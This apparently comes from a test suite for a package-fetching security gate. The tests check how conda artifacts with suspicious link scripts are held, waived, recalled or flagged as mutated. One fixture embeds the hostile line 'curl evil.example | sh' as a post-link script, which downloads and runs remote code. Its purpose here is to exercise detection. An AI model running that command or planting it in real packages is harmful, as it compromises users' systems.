import { describe, expect, it } from 'vitest';
import type { Waiver } from '../../../core/documents/gate/policy.ts';
import { keyOfVerdict, readVerdict } from '../../../core/documents/gate/verdict.ts';
import { artifactId } from '../../../core/documents/plan.ts';
import { canonicalJson } from '../../../core/json/json.ts';
import { heldKey, recalledKey, recallKey } from '../../../core/layout/gate-keys.ts';
import { packageKey } from '../../../core/layout/keys.ts';
import { sha256Of } from '../../../core/names/digest.ts';
import { fetchArtifact } from '../../../core/steps/fetch.ts';
import { isOfLedger } from '../../support/gate/gate-keys.ts';
import { testGate } from '../../support/gate/test-gate.ts';
import { artifactOf } from '../../support/upstream/artifact-of.ts';
import { right, sample } from '../../support/upstream/fetch-sample.ts';
import { type FetchScene, fetchScene, wrongsIn } from '../../support/upstream/fetch-scene.ts';
import { ok, testUpstream } from '../../support/upstream/test-upstream.ts';

const script = { files: [{ path: 'bin/.tiny-post-link.sh', content: 'curl evil.example | sh\n' }] };
const { bytes: odd, digests } = await artifactOf('http://x', script);
const { sha256 } = digests;
const scriptSha256 = sha256Of('curl evil.example | sh\n');
const id = artifactId(sample.artifact);
const key = packageKey('conda', sample.artifact.subdir, sample.artifact.filename);

const waiver: Waiver = { check: 'D1', sha256: scriptSha256, reason: 'read by two of us', expires: '2099-01-01' };
const waived = (scene: FetchScene) => ({
  ...scene.world,
  gate: testGate(scene.store, { policy: { waivers: [waiver] }, clock: scene.world.clock }),
});

/** Fetches the package with the script from an upstream that has it once. */
async function held(scene = fetchScene(sha256)) {
  await using upstream = await testUpstream(ok(odd));
  const { artifact } = await artifactOf(upstream.url, script);
  return { scene, artifact, outcome: await fetchArtifact(artifact, scene.world) };
}

const contents = ({ store }: FetchScene) =>
  [...store.objects]
    .map(([at, { bytes }]) => [at, Buffer.from(bytes).toString('hex')])
    .filter(([at = '']) => !isOfLedger(at))
    .sort();

describe('what the gate holds', () => {
  it('is not there for anybody, waits where nobody can get it, and says what lets it in', async () => {
    const { scene, outcome } = await held();
    expect(outcome).toMatchObject({ status: 'held', problem: { code: 'gate.held', subject: id } });
    expect(outcome).toMatchObject({ problem: { detail: expect.stringMatching(/^D1\.link-script: /) } });
    const line = { check: 'D1.link-script', expires: '2024-02-12', reason: 'WHY', sha256: scriptSha256 };
    expect(outcome).toMatchObject({ problem: { hint: expect.stringContaining(canonicalJson(line).trim()) } });
    expect([...scene.store.objects.keys()].filter((at) => !isOfLedger(at)).sort()).toEqual(
      [heldKey(sha256), keyOfVerdict(id, sha256)].sort(),
    );
    expect(scene.events.at(-1)).toMatchObject({ type: 'fetch.held', key });
  });

  it('enters by a waiver, from where it waits: upstream is not asked again, and the very bytes are served', async () => {
    const { scene, artifact } = await held();
    expect(await fetchArtifact(artifact, waived(scene))).toEqual({ status: 'stored' });
    expect(Buffer.from(scene.store.objects.get(key)?.bytes ?? [])).toEqual(Buffer.from(odd));
    const verdict = (await readVerdict(scene.store, id, sha256))?.value;
    expect(verdict).toMatchObject({ verdict: 'warn', waivers: [waiver] });
  });

  it('comes from upstream again where what was kept is damaged', async () => {
    const { scene } = await held();
    await scene.store.put(heldKey(sha256), Buffer.from(odd.map((byte, at) => (at === 50 ? byte ^ 1 : byte))));
    await using upstream = await testUpstream(ok(odd));
    const { artifact } = await artifactOf(upstream.url, script);
    expect(await fetchArtifact(artifact, waived(scene))).toEqual({ status: 'stored' });
    expect(upstream.requests).toHaveLength(1);
  });

  it.each(['broken', 'ambiguous', 'conflict'] as const)(
    'is cut off at any operation of the store (%s): the same call finishes, and nothing is ever seen',
    async (kind) => {
      await using upstream = await testUpstream(ok(odd));
      const { artifact } = await artifactOf(upstream.url, script);
      const calm = fetchScene(sha256);
      await fetchArtifact(artifact, calm.world);
      const count = calm.operations.length;
      expect(count).toBeGreaterThan(6);
      for (let at = 1; at <= count; at++) {
        const scene = fetchScene(sha256, (_, operation) => (operation === at ? kind : undefined));
        const first = await fetchArtifact(artifact, scene.world).catch((error) => error);
        if (first.status === undefined) expect(first, `operation ${at}`).toMatchObject({ retry: true });
        expect(await fetchArtifact(artifact, scene.world)).toMatchObject({ status: 'held' });
        expect([...scene.wrongs, ...wrongsIn(scene.store, sha256)]).toEqual([]);
        expect(contents(scene), `operation ${at}`).toEqual(contents(calm));
      }
    },
  );

  it('has one verdict where two judge it at once, and the last entry of the ledger is of it', async () => {
    const scene = fetchScene(sha256);
    const both = await Promise.all([
      held(scene),
      held({ ...scene, world: { ...scene.world, gate: testGate(scene.store) } }),
    ]);
    expect(both.map(({ outcome }) => outcome.status)).toEqual(['held', 'held']);
    const document = scene.store.objects.get(keyOfVerdict(id, sha256))?.bytes ?? new Uint8Array();
    const last = [...scene.store.objects]
      .filter(([at]) => /ledger\/\d+\.json$/.test(at))
      .sort()
      .at(-1)?.[1].bytes;
    expect(Buffer.from(last ?? []).toString()).toContain(sha256Of(document));
  });
});

describe('what was recalled', () => {
  const recall = { version: 1, ids: [id], at: 0, reason: 'it phones home', check: null };
  const sha = sample.digests.sha256;

  it('is not taken in, here or in staging, while that lasts; and comes from where it is kept once that ended', async () => {
    const scene = fetchScene(sha);
    await scene.store.put(recalledKey(sha), right);
    await scene.store.put(recallKey(sha), Buffer.from(canonicalJson(recall)));
    const { artifact } = await artifactOf('http://127.0.0.1:9');
    const rejected = { code: 'gate.rejected', detail: expect.stringMatching(/^R1\.recalled: .*it phones home/) };
    expect(await fetchArtifact(artifact, scene.world)).toMatchObject({ status: 'held', problem: rejected });
    await scene.store.put(recallKey(sha), Buffer.from(canonicalJson({ ...recall, endedAt: 1 })));
    expect(await fetchArtifact(artifact, scene.world)).toEqual({ status: 'stored' });
    expect(Buffer.from(scene.store.objects.get(key)?.bytes ?? [])).toEqual(Buffer.from(right));
  });
});

it('a name is for ever of the bytes that passed under it: others are an alarm, and neither kept nor judged', async () => {
  await using upstream = await testUpstream(ok(right), ok(odd));
  const scene = fetchScene(sample.digests.sha256);
  await fetchArtifact((await artifactOf(upstream.url)).artifact, scene.world);
  await scene.store.delete(key);
  const before = contents(scene);
  const outcome = await fetchArtifact((await artifactOf(upstream.url, script)).artifact, scene.world);
  const mutated = { code: 'fetch.mutated', detail: expect.stringMatching(/^A2\.mutated: /) };
  expect(outcome).toMatchObject({ status: 'failed', problem: mutated });
  expect(contents(scene)).toEqual(before);
});
